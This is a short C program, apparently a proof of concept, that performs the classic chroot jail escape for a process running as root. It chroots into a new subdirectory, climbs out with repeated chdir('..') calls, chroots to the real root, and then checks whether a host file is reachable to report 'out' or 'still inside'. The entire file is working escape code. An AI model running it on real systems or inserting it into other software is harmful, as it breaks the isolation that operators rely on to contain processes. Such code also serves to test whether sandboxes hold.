/* The classic way out of a chroot, for its root: keep the old directory, change the root below it, and climb. */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	if (argc != 2 || mkdir("below", 0700) == -1 || chroot("below") == -1) {
		perror("escape");
		return 2;
	}
	for (int i = 0; i < 1024; i++)
		(void)!chdir("..");
	(void)!chroot(".");
	/* A file of the host, which no jail has. */
	puts(access(argv[1], F_OK) == 0 ? "out" : "still inside");
	return 0;
}
